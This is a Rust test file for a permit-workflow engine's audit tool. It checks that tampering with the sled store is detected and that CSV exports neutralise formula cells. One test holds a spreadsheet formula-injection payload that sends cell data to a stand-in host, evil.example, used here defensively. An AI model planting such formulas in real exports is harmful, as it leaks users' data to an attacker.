//! `audit verify` against a tampered store: every kind of alteration an auditor worries about
//! is made directly in sled (as someone with access to the files would), and verification must
//! name the place. A clean store verifies clean, and its digest stays the same as it grows.

mod support;

use serde_json::{Value, json};
use sopflow::audit::verify::{Problem, Summary};
use sopflow::engine::{Config, Engine, Fire, StartRequest};
use sopflow::machine::{Actor, Entry};
use std::path::{Path, PathBuf};
use std::process::Command;

fn config(data: &Path) -> Config {
    let root = PathBuf::from(env!("CARGO_MANIFEST_DIR"));
    support::store_config(data).sources(vec![root.join("workflows"), root.join("rules")])
}

fn documents() -> Value {
    json!({"notification_letter": "HW-2026-031", "applicant_seal": true, "operator_certificate": "T-4411"})
}

/// Three hot-work permits: one through every department, one submitted, one just started.
async fn populate(data: &Path) -> Vec<String> {
    let engine = Engine::open(config(data)).await.expect("opens");
    let contractor = Actor::new("wang", ["contractor"]);
    let mut ids = Vec::new();
    for steps in [6, 1, 0] {
        let started = engine
            .start("hot_work_permit", StartRequest::new(contractor.clone()))
            .await
            .expect("starts");
        let id = started.instance.id.to_string();
        let script: [(&str, &str, &str); 6] = [
            ("submit", "wang", "contractor"),
            ("approve", "zhao", "order_dept"),
            ("approve", "qian", "cs_dept"),
            ("approve", "sun", "project_gm"),
            ("affix_seal", "li", "admin_dept"),
            ("distribute", "zhou", "cs_dept"),
        ];
        for (event, actor, role) in script.into_iter().take(steps) {
            let mut fire = Fire::new(event, Actor::new(actor, [role]));
            if event == "submit" {
                fire = fire.payload(documents());
            }
            if event == "distribute" {
                fire = fire.payload(json!({"archive_reference": "ARC-2026-11", "copy_to_applicant": true, "copy_to_order_dept": true}));
            }
            engine.fire(&id, fire).await.expect("fires");
        }
        ids.push(id);
    }
    ids
}

fn verify(data: &Path) -> (Summary, Vec<Problem>) {
    let runtime = tokio::runtime::Builder::new_current_thread()
        .enable_all()
        .build()
        .expect("runtime");
    let engine = runtime.block_on(Engine::open(config(data))).expect("opens");
    let mut problems = Vec::new();
    let summary = engine
        .verify_store(
            // A digest covers whole seconds: take it a second on, to cover the last steps.
            engine.now() + chrono::Duration::seconds(1),
            &mut |p| problems.push(p),
            &mut |_| {},
        )
        .expect("verifies");
    drop(engine);
    (summary, problems)
}

fn log_key(id: &str, seq: u64) -> Vec<u8> {
    let mut key = id.as_bytes().to_vec();
    key.push(0);
    key.extend_from_slice(&seq.to_be_bytes());
    key
}

/// Opens the store's sled database directly (the engine is closed), as an intruder would.
fn with_sled(data: &Path, change: impl FnOnce(&sled::Db)) {
    let db = support::raw_sled(data);
    change(&db);
    db.flush().expect("flush");
}

fn rewrite_entry(db: &sled::Db, id: &str, seq: u64, change: impl FnOnce(&mut Value)) {
    let log = db.open_tree("log").expect("log");
    let key = log_key(id, seq);
    let mut value: Value =
        serde_json::from_slice(&log.get(&key).expect("get").expect("present")).expect("json");
    change(&mut value);
    log.insert(key, serde_json::to_vec(&value).expect("json"))
        .expect("insert");
}

fn setup() -> (tempfile::TempDir, PathBuf, Vec<String>) {
    let dir = tempfile::tempdir().expect("temp dir");
    let data = dir.path().join("data");
    let runtime = tokio::runtime::Runtime::new().expect("runtime");
    let ids = runtime.block_on(populate(&data));
    drop(runtime);
    (dir, data, ids)
}

fn codes_at<'a>(problems: &'a [Problem], id: &str) -> Vec<(&'a str, Option<u64>)> {
    problems
        .iter()
        .filter(|p| p.instance.as_deref() == Some(id))
        .map(|p| (p.code.as_ref(), p.seq))
        .collect()
}

#[test]
fn a_clean_store_verifies_and_its_digest_does_not_move_as_it_grows() {
    let (_dir, data, ids) = setup();
    let (summary, problems) = verify(&data);
    assert!(problems.is_empty(), "{problems:#?}");
    assert_eq!(summary.instances, 3);
    assert_eq!(summary.entries, 7 + 2 + 1);
    assert_eq!(summary.digest.entries, 10);
    let before = summary.digest.clone();

    // More steps later do not change the digest of what was there before.
    std::thread::sleep(std::time::Duration::from_millis(1100));
    let runtime = tokio::runtime::Runtime::new().expect("runtime");
    runtime.block_on(async {
        let engine = Engine::open(config(&data)).await.expect("opens");
        engine
            .fire(
                &ids[1],
                Fire::new("approve", Actor::new("zhao", ["order_dept"])),
            )
            .await
            .expect("fires");
        // A digest walks the store, which blocks: off the async threads.
        let again =
            tokio::task::block_in_place(|| engine.store_digest(before.as_of)).expect("digest");
        assert_eq!(again, before);
        let now = tokio::task::block_in_place(|| {
            engine.store_digest(engine.now() + chrono::Duration::seconds(1))
        })
        .expect("digest");
        assert_eq!(now.entries, 11);
        assert_ne!(now.hash, before.hash);
    });
}

#[test]
fn an_altered_payload_actor_or_time_is_named_by_instance_and_sequence() {
    if support::sled_only("an_altered_payload_actor_or_time_is_named_by_instance_and_sequence") {
        return;
    }
    for (field, value) in [
        ("payload", json!({"operator_certificate": "FAKE"})),
        ("actor", json!("mallory")),
        ("at", json!("2026-01-01T00:00:00Z")),
    ] {
        let (_dir, data, ids) = setup();
        with_sled(&data, |db| {
            rewrite_entry(db, &ids[0], 2, |entry| entry[field] = value.clone())
        });
        let (summary, problems) = verify(&data);
        assert!(!summary.is_clean());
        assert!(
            codes_at(&problems, &ids[0]).contains(&("altered", Some(2))),
            "{field}: {problems:#?}"
        );
        let shown = problems
            .iter()
            .find(|p| p.code == "altered")
            .expect("altered")
            .to_string();
        assert!(shown.contains(&format!("{} #2", ids[0])), "{shown}");
    }
}

#[test]
fn a_rewritten_entry_with_its_hash_recomputed_still_breaks_the_chain() {
    if support::sled_only("a_rewritten_entry_with_its_hash_recomputed_still_breaks_the_chain") {
        return;
    }
    let (_dir, data, ids) = setup();
    with_sled(&data, |db| {
        let log = db.open_tree("log").expect("log");
        let key = log_key(&ids[0], 3);
        let mut entry: Entry =
            serde_json::from_slice(&log.get(&key).expect("get").expect("present")).expect("json");
        entry.actor = "mallory".into();
        entry.seal();
        log.insert(key, serde_json::to_vec(&entry).expect("json"))
            .expect("insert");
    });
    let (_, problems) = verify(&data);
    assert!(
        codes_at(&problems, &ids[0]).contains(&("broken_link", Some(4))),
        "{problems:#?}"
    );
}

#[test]
fn a_deleted_entry_is_reported_missing_and_a_deleted_last_entry_by_the_snapshot() {
    if support::sled_only(
        "a_deleted_entry_is_reported_missing_and_a_deleted_last_entry_by_the_snapshot",
    ) {
        return;
    }
    let (_dir, data, ids) = setup();
    with_sled(&data, |db| {
        let log = db.open_tree("log").expect("log");
        log.remove(log_key(&ids[0], 3)).expect("remove");
        log.remove(log_key(&ids[1], 1)).expect("remove");
    });
    let (_, problems) = verify(&data);
    assert!(
        codes_at(&problems, &ids[0]).contains(&("missing", Some(4))),
        "{problems:#?}"
    );
    assert!(
        codes_at(&problems, &ids[1]).contains(&("snapshot_mismatch", None)),
        "{problems:#?}"
    );
}

#[test]
fn reordered_entries_are_reported_misplaced() {
    if support::sled_only("reordered_entries_are_reported_misplaced") {
        return;
    }
    let (_dir, data, ids) = setup();
    with_sled(&data, |db| {
        let log = db.open_tree("log").expect("log");
        let a = log.get(log_key(&ids[0], 2)).expect("get").expect("present");
        let b = log.get(log_key(&ids[0], 3)).expect("get").expect("present");
        log.insert(log_key(&ids[0], 2), b).expect("insert");
        log.insert(log_key(&ids[0], 3), a).expect("insert");
    });
    let (_, problems) = verify(&data);
    let found = codes_at(&problems, &ids[0]);
    assert!(found.contains(&("misplaced", Some(2))), "{problems:#?}");
    assert!(found.contains(&("misplaced", Some(3))), "{problems:#?}");
}

#[test]
fn a_deleted_instance_passes_the_chains_but_not_the_digest() {
    if support::sled_only("a_deleted_instance_passes_the_chains_but_not_the_digest") {
        return;
    }
    let (_dir, data, ids) = setup();
    let (before, _) = verify(&data);
    with_sled(&data, |db| {
        let log = db.open_tree("log").expect("log");
        for seq in 0..=1 {
            log.remove(log_key(&ids[1], seq)).expect("remove");
        }
        db.open_tree("instances")
            .expect("instances")
            .remove(ids[1].as_bytes())
            .expect("remove");
        for tree in ["by_workflow", "by_state"] {
            let tree = db.open_tree(tree).expect("tree");
            for key in tree.iter().keys().flatten() {
                if key.ends_with(ids[1].as_bytes()) {
                    tree.remove(key).expect("remove");
                }
            }
        }
    });
    let runtime = tokio::runtime::Runtime::new().expect("runtime");
    let digest = runtime.block_on(async {
        let engine = Engine::open(config(&data)).await.expect("opens");
        engine.store_digest(before.digest.as_of).expect("digest")
    });
    assert_eq!(digest.instances, 2);
    assert_ne!(digest.hash, before.digest.hash, "the digest must change");

    // The CLI says so, given the token written down before.
    let out = Command::new(env!("CARGO_BIN_EXE_sopflow"))
        .args([
            "audit",
            "verify",
            "--digest",
            &before.digest.token(),
            "--data-dir",
        ])
        .arg(&data)
        .current_dir(env!("CARGO_MANIFEST_DIR"))
        .output()
        .expect("runs");
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert_eq!(out.status.code(), Some(1), "{stdout}");
    assert!(stdout.contains("digest_mismatch"), "{stdout}");
}

#[test]
fn a_swapped_definition_source_is_found() {
    if support::sled_only("a_swapped_definition_source_is_found") {
        return;
    }
    let (_dir, data, ids) = setup();
    with_sled(&data, |db| {
        let definitions = db.open_tree("definitions").expect("definitions");
        for item in definitions.iter() {
            let (key, value) = item.expect("item");
            let mut stored: Value = serde_json::from_slice(&value).expect("json");
            if stored["workflow"] == "hot_work_permit" {
                let yaml = stored["yaml"]
                    .as_str()
                    .expect("yaml")
                    .replace("roles: [project_gm]", "roles: [contractor]");
                stored["yaml"] = Value::String(yaml);
                definitions
                    .insert(key, serde_json::to_vec(&stored).expect("json"))
                    .expect("insert");
            }
        }
    });
    let (_, problems) = verify(&data);
    assert!(
        problems
            .iter()
            .any(|p| p.code == "definition_altered" && p.detail.contains("hot_work_permit")),
        "{problems:#?}"
    );
    assert!(
        codes_at(&problems, &ids[0]).contains(&("unknown_version", Some(0))),
        "{problems:#?}"
    );
}

#[test]
fn a_tampered_snapshot_or_index_is_found() {
    if support::sled_only("a_tampered_snapshot_or_index_is_found") {
        return;
    }
    let (_dir, data, ids) = setup();
    with_sled(&data, |db| {
        let instances = db.open_tree("instances").expect("instances");
        let mut snapshot: Value = serde_json::from_slice(
            &instances
                .get(ids[1].as_bytes())
                .expect("get")
                .expect("present"),
        )
        .expect("json");
        snapshot["state"] = json!("distributed");
        instances
            .insert(
                ids[1].as_bytes(),
                serde_json::to_vec(&snapshot).expect("json"),
            )
            .expect("insert");
        let by_state = db.open_tree("by_state").expect("by_state");
        for key in by_state.iter().keys().flatten() {
            if key.ends_with(ids[2].as_bytes()) {
                by_state.remove(key).expect("remove");
            }
        }
    });
    let (_, problems) = verify(&data);
    let snapshot = problems
        .iter()
        .find(|p| p.code == "snapshot_mismatch")
        .expect("snapshot mismatch");
    assert_eq!(snapshot.instance.as_deref(), Some(ids[1].as_str()));
    assert!(
        snapshot.detail.contains("distributed"),
        "{}",
        snapshot.detail
    );
    assert!(
        problems.iter().any(|p| p.code == "derived"
            && p.instance.as_deref() == Some(ids[2].as_str())
            && p.detail.contains("by_state")),
        "{problems:#?}"
    );
}

#[test]
fn the_cli_names_a_tampered_entry_and_exits_1() {
    if support::sled_only("the_cli_names_a_tampered_entry_and_exits_1") {
        return;
    }
    let (_dir, data, ids) = setup();
    let run = || {
        Command::new(env!("CARGO_BIN_EXE_sopflow"))
            .args(["audit", "verify", "--data-dir"])
            .arg(&data)
            .current_dir(env!("CARGO_MANIFEST_DIR"))
            .output()
            .expect("runs")
    };
    let clean = run();
    assert_eq!(clean.status.code(), Some(0));
    assert!(String::from_utf8_lossy(&clean.stdout).contains("every chain intact"));
    with_sled(&data, |db| {
        rewrite_entry(db, &ids[0], 1, |entry| {
            entry["payload"]["operator_certificate"] = json!("FAKE")
        })
    });
    let broken = run();
    let stdout = String::from_utf8_lossy(&broken.stdout);
    assert_eq!(broken.status.code(), Some(1), "{stdout}");
    assert!(
        stdout.contains(&format!("BROKEN {} #1", ids[0])) && stdout.contains("[altered]"),
        "{stdout}"
    );
    // The README shows this report: each of its lines is a line printed here, numbers aside.
    let readme = std::fs::read_to_string(Path::new(env!("CARGO_MANIFEST_DIR")).join("README.md"))
        .expect("README");
    let shown = readme
        .split("```text\n")
        .filter_map(|b| b.split("```").next())
        .find(|b| b.contains("BROKEN "))
        .expect("the README shows a broken chain");
    let numbers_aside = |line: &str| -> String {
        let mut out = String::new();
        for c in line.trim_end().chars() {
            if !c.is_ascii_digit() {
                out.push(c);
            } else if !out.ends_with('9') {
                out.push('9');
            }
        }
        out
    };
    for line in shown.lines() {
        assert!(
            stdout
                .lines()
                .any(|l| numbers_aside(l) == numbers_aside(line)),
            "the README shows `{line}`; verify prints:\n{stdout}"
        );
    }
}

#[test]
fn a_csv_export_for_excel_begins_with_a_byte_order_mark() {
    let (_dir, data, ids) = setup();
    let out = Command::new(env!("CARGO_BIN_EXE_sopflow"))
        .args(["audit", "export", "--format", "csv", "--bom", "--store"])
        .arg(support::store_arg(&data))
        .current_dir(env!("CARGO_MANIFEST_DIR"))
        .output()
        .expect("runs");
    assert_eq!(out.status.code(), Some(0));
    let text = String::from_utf8(out.stdout).expect("utf-8");
    let body = text
        .strip_prefix('\u{feff}')
        .expect("a byte-order mark first");
    assert!(body.starts_with("instance,workflow,"), "{body}");
    assert!(
        body.contains(&format!("{},hot_work_permit,", ids[0])),
        "{body}"
    );
}

/// A comment that begins like a formula reaches Excel as text: every CSV export (with or
/// without the byte-order mark) puts a single quote before it; the JSON export keeps it exact.
#[test]
fn formula_cells_are_neutralised_in_csv_and_exact_in_json() {
    let (_dir, data, ids) = setup();
    let hostile = "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"详情\")";
    let runtime = tokio::runtime::Runtime::new().expect("runtime");
    runtime.block_on(async {
        let engine = Engine::open(config(&data)).await.expect("opens");
        engine
            .fire(
                &ids[1],
                Fire::new("approve", Actor::new("li", ["order_dept"])).comment(hostile),
            )
            .await
            .expect("fires");
    });
    drop(runtime);
    let export = |args: &[&str]| {
        let out = Command::new(env!("CARGO_BIN_EXE_sopflow"))
            .args(["audit", "export", "--actor", "li"])
            .args(args)
            .arg("--store")
            .arg(support::store_arg(&data))
            .current_dir(env!("CARGO_MANIFEST_DIR"))
            .output()
            .expect("runs");
        assert_eq!(out.status.code(), Some(0));
        String::from_utf8(out.stdout).expect("utf-8")
    };
    for args in [&["--format", "csv", "--bom"][..], &["--format", "csv"][..]] {
        let text = export(args);
        let body = text.trim_start_matches('\u{feff}');
        let mut reader = csv::Reader::from_reader(body.as_bytes());
        let comments: Vec<String> = reader
            .records()
            .map(|r| r.expect("a row")[14].to_string())
            .collect();
        assert!(
            comments.contains(&format!("'{hostile}")),
            "{args:?}: {comments:?}"
        );
        assert!(!comments.iter().any(|c| c.starts_with('=')), "{args:?}");
    }
    let rows: Value = serde_json::from_str(&export(&["--format", "json"])).expect("JSON");
    assert!(
        rows.as_array()
            .expect("rows")
            .iter()
            .any(|r| r["comment"] == hostile),
        "{rows}"
    );
}
